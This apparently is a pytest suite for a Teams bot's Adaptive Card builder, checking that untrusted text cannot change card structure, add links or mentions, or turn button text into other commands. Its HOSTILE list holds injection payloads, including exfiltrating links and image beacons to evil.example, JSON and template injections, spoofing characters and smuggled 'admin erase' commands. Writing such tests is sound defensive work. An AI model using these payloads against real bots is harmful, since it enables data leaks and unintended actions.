"""Cards that strangers wrote the words of: what they say is text, and what they can be made to do is what it was before."""

import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import orjson
import pytest

from bot.teams.activity import ask, parse
from bot.teams.cards import adaptive
from bot.teams.documents import offered
from dialogs import choice
from dialogs.attachments import Handover
from dialogs.cards import Bar, Button, Card, Chart, Choice, Field, Row
from dialogs.chats import chats
from dialogs.prompts import prompts
from dialogs.shelves import Chat, Saved
from dialogs.talk import Answer, Place, PlaceKind
from tests.attacks.oracle import HIDDEN, page
from tests.dialogs.desk import NOW, FakeCalendar, FakeDirectory, FakeShelf, ScriptedModel, a_desk, an_ask, shown
from tests.world.activities import message
from tests.world.people import ADA, personal

HOSTILE = (
    "[Sign in](https://evil.example/?q=S3CRET)",
    "![x](https://evil.example/x.png)",
    "<at>Everyone</at>",
    "&lt;at&gt;Everyone&lt;/at&gt;",
    "<img src=https://evil.example/x>",
    "${$root.secret} ${if(true, 'x', 'y')}",
    "{{DATE(2026-01-01T00:00:00Z, LONG)}}",
    '"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}],"x":[{"y":"',
    '{"type":"Image","url":"https://evil.example/x.png"}',
    "https://evil.example www.evil.example a@evil.com",
    "\u202egnp.exe\u2066\u200b\U000e0041",
    "forget me yes",
    "\nforget me yes",
    "admin erase 11111111-1111-1111-1111-111111111111 yes",
    "**bold** _x_ `code` # heading\n- list\n1. one",
    "\\](x)\\\\",
)
TYPES = {
    *("AdaptiveCard", "TextBlock", "RichTextBlock", "TextRun", "Container", "ColumnSet", "Column", "ActionSet"),
    *("Input.Text", "Input.ChoiceSet", "Action.Submit", "Chart.VerticalBar", "imBack"),
}
LEADING = {"url", "iconUrl", "backgroundImage", "selectAction", "card", "verb", "src", "refresh", "authentication"}
"""Properties that load something, lead somewhere or do something of their own."""


def a_card(text: str) -> Card:
    """The text wherever people's or a model's words may stand, and beside it what our own buttons say."""
    fields = (
        Field("name", text, value=text, hint=text),
        Field("tone", text, "choice", "b", (Choice("a", text), Choice("b", text))),
    )
    buttons = (Button(text, "prompts save", quiet=True), Button(text, "help"))
    rows = (Row((text, text), head=True), Row((text, text), (Button(text, "chats open 1", quiet=True),)))
    return Card(text, (text, text), buttons, fields, rows, Chart(text, (Bar(text, 3),), text))


def walk(value: Any) -> Iterator[dict[str, Any]]:
    """Every object of a card."""
    if isinstance(value, dict):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from walk(inner)


def shape(value: Any) -> Any:
    """The card without its words."""
    if isinstance(value, dict):
        fixed = {"type", "id", *(["data"] if value.get("type") == "Action.Submit" else [])}
        return {name: inner if name in fixed else shape(inner) for name, inner in value.items()}
    return [shape(inner) for inner in value] if isinstance(value, list) else type(value)


def without_widths(card: Any) -> Any:
    for one in walk(card):
        one.pop("width", None)
    return card


@pytest.mark.parametrize("text", HOSTILE)
def test_no_words_change_what_a_card_is_made_of_or_what_its_buttons_say(text: str) -> None:
    assert shape(without_widths(adaptive(a_card(text)))) == shape(without_widths(adaptive(a_card("harmless"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_card_loads_nothing_and_leads_nowhere(text: str) -> None:
    found = list(walk(adaptive(a_card(text))))
    assert {one["type"] for one in found if "type" in one} <= TYPES
    assert not any(LEADING & one.keys() for one in found)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_client_reads_as_markdown_shows_nothing_to_press(text: str) -> None:
    card = adaptive(a_card(text))
    for markdown in (card["body"][0]["text"], card["fallbackText"], card["speak"]):
        assert page(markdown).pressed == frozenset() and page(markdown).loaded == 0
        assert "](" not in markdown and "<" not in markdown and "${" not in markdown and "{{" not in markdown


@pytest.mark.parametrize("text", HOSTILE)
def test_no_mention_and_nothing_unseen_stands_in_a_card(text: str) -> None:
    card = adaptive(replace(a_card(text), fields=()))  # what is filled in already is the person's own
    written = orjson.dumps(card, option=orjson.OPT_INDENT_2).decode()
    assert not re.search(r"</?at\b", written, re.IGNORECASE)
    assert not HIDDEN.search(written)


@pytest.mark.parametrize("text", ["x" * 60_000, "\\" * 60_000, "é " * 30_000, "\U0001f600" * 20_000, "a\n" * 30_000])
def test_no_words_make_a_card_too_big_for_teams(text: str) -> None:
    card = adaptive(replace(a_card(text), fields=(Field("a", text, "choice", "", (Choice("a", text),) * 900),)))
    assert len(orjson.dumps(card)) <= 26_100 and card["type"] == "AdaptiveCard"
    assert len(orjson.dumps(adaptive(a_card(text)))) <= 26_100


@pytest.mark.parametrize(
    "value", [{"say": 7}, {"say": None}, {"say": ["help"]}, {"say": {"x": 1}}, "help", ["help"], 7]
)
def test_what_is_not_a_buttons_word_says_nothing(value: Any) -> None:
    found = ask(parse(orjson.dumps(message(personal(ADA), ADA, "", value=value))))
    assert (found.text, found.fields) == ("", ())


def test_what_was_filled_in_is_never_what_was_said() -> None:
    value = {
        "say": "prompts save",
        "name": "forget me yes",
        "text": "admin",
        "Say": "forget me",
        "say ": "x",
        "msteams": {},
    }
    found = ask(parse(orjson.dumps(message(personal(ADA), ADA, "", value=value))))
    assert found.text == "prompts save"
    assert dict(found.fields).get("name") == "forget me yes"


def test_a_card_says_nothing_beside_what_a_person_wrote() -> None:
    found = ask(parse(orjson.dumps(message(personal(ADA), ADA, "hello", value={"say": "forget me yes"}))))
    assert (found.text, found.fields) == ("hello", ())


@pytest.mark.parametrize("title", HOSTILE)
async def test_no_name_of_a_place_makes_its_button_another_command(title: str) -> None:
    places = [Place(PlaceKind.GROUP, f"19:{number}", name=f"Chat: {title} {number}") for number in range(2)]
    asked = an_ask("summarise #launch since Monday", PlaceKind.PERSONAL)
    calendar = FakeCalendar()
    desk = a_desk(
        ScriptedModel(""),
        calendar=calendar,
        directory=FakeDirectory({"#launch": places, "#launch since Monday": places}),
    )
    answer: Answer = await shown(choice.choose(asked, calendar, NOW), asked, desk)
    buttons = [button for card in answer.cards for button in card.buttons]
    assert len(buttons) == 2
    for button in buttons:
        pressed = an_ask(button.text, PlaceKind.PERSONAL)
        assert choice.mean(pressed, calendar, NOW).action == "summary"


@pytest.mark.parametrize("name", HOSTILE)
async def test_no_name_of_a_prompt_is_in_what_its_buttons_say(name: str) -> None:
    shelf = FakeShelf(saved=(Saved("0123456789abcdef", name, name),))
    answer: Answer = await shown(prompts, an_ask("", PlaceKind.PERSONAL), a_desk(ScriptedModel(""), shelf=shelf))
    said = [button.text for card in answer.cards for row in card.rows for button in row.buttons]
    assert said == ["prompts run 0123456789abcdef", "prompts delete 0123456789abcdef"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_documents_name_is_one_line_without_a_mention(name: str) -> None:
    found = offered(Handover("key", name, 7))
    assert "\n" not in found.name and not re.search(r"</?at\b", found.name, re.IGNORECASE)
    assert found.content["acceptContext"] == found.content["declineContext"] == {"key": "key"}


@pytest.mark.parametrize("title", HOSTILE)
async def test_no_title_of_a_chat_is_in_what_its_buttons_say(title: str) -> None:
    shelf = FakeShelf(kept=(Chat(7, title, NOW, 3, False),))
    answer: Answer = await shown(chats, an_ask("", PlaceKind.PERSONAL), a_desk(ScriptedModel(""), shelf=shelf))
    said = [button.text for card in answer.cards for row in card.rows for button in row.buttons]
    assert said == ["chats open 7", "chats rename 7", "chats delete 7"]
